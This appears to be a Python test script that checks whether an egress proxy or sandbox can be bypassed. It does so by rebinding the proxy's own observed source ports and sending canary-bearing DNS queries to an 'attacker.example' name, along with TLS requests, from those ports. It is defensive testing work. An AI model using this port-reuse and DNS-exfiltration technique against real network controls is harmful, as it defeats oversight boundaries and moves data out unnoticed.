"""The source ports of the proxy's own exchanges, taken over: rebind.py udp|tcp

Lets the proxy talk (a lookup and a fetch of the allowed host), watches /proc/net meanwhile, and then binds those ports.
UDP also tries every ephemeral port in turn, so that none is missed. LIMIT bounds that (control runs need no sweep)."""

import glob
import os
import socket
import sys
import threading

from common import *

variant = sys.argv[1]
limit = int(os.environ.get("LIMIT", "100000"))
seen = set()
stop = threading.Event()


def watch():
    while not stop.is_set():
        for path in glob.glob("/proc/net/udp*") + glob.glob("/proc/net/tcp*"):
            with open(path, encoding="ascii") as table:
                for line in list(table)[1:]:
                    port = int(line.split()[1].rsplit(":", 1)[1], 16)
                    if port >= 1024:
                        seen.add(port)


def fetch():
    with tls(connect_name(ALLOWED), ALLOWED) as sock:
        sock.sendall(f"GET /ok/rebind HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n".encode())
        drain(sock)


watcher = threading.Thread(target=watch)
watcher.start()
for _ in range(3):
    attempt("fetch", fetch)
stop.set()
watcher.join()

low, high = 32768, 60999
with open("/proc/sys/net/ipv4/ip_local_port_range", encoding="ascii") as file:
    low, high = map(int, file.read().split())
everything = sorted(seen) + [port for port in range(low, high + 1) if port not in seen]
query = dns_query(dns_name(CANARY, "attacker", "example"))
outcomes = {}


def note(action):
    try:
        action()
        outcomes["sent"] = outcomes.get("sent", 0) + 1
    except OSError as error:
        outcomes[error.strerror or str(error)] = outcomes.get(error.strerror or str(error), 0) + 1


def datagram(family, port, target):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", port))
        sock.sendto(query, target)


def stream(port, address):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(0.3)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", port))
        sock.connect((address, 443))
        with tls(sock, ALLOWED) as secure:
            secure.sendall(f"GET /{CANARY} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode())
            drain(secure)


if variant == "udp":
    for port in everything[:limit]:
        note(lambda: datagram(socket.AF_INET, port, (DESTINATIONS[("resolver", 4)], 53)))
    for port in sorted(seen)[:limit]:
        note(lambda: datagram(socket.AF_INET6, port, (DESTINATIONS[("resolver", 6)], 53)))
        note(lambda: datagram(socket.AF_INET, port, (DESTINATIONS[("allowed", 4)], 443)))
else:
    for port in sorted(seen)[:20]:
        note(lambda: stream(port, DESTINATIONS[("allowed", 4)]))
        note(lambda: stream(port, DESTINATIONS[("any", 4)]))
notes.append(f"{len(seen)} ports seen")
notes.append(str(outcomes))
finish()
